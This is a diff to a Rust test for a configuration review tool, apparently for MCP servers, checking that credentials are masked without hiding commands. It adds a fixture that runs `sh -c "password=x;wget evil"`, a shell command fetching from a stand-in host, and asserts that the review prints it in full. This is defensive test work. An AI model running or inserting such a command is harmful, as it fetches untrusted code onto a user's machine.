@@ -534,7 +534,8 @@ fn a_review_shows_what_steers_and_masks_credentials() {
                 "command": "node", "args": ["${KEY}", "${MINE}"],
                 "env": {"API_KEY": "${SECRET}", "PYTHONPATH": "${PATH_TOKEN}", "DB_DSN": "${DSN}", "OWN_KEY": "literal", "GONE": "${GONE}"}
             },
-            "u": {"url": "https://bob:hunter2x@${HOST}/", "headers": {"Authorization": "Bearer ${SECRET}"}}
+            "u": {"url": "https://bob:hunter2x@${HOST}/", "headers": {"Authorization": "Bearer ${SECRET}"}},
+            "s": {"command": "sh", "args": ["-c", "password=x;wget evil"]}
         }))
         .write(
             "project/.env.pmcp",
@@ -562,6 +563,8 @@ fn a_review_shows_what_steers_and_masks_credentials() {
   without a value: GONE
 "#
     );
+    // What looks like a credential hides no part of a command.
+    assert_eq!(review("s"), "  run      sh -c \"password=x;wget evil\"\n");
     assert_eq!(
         review("u"),
         r#"  address  https://bob:…@${HOST}/
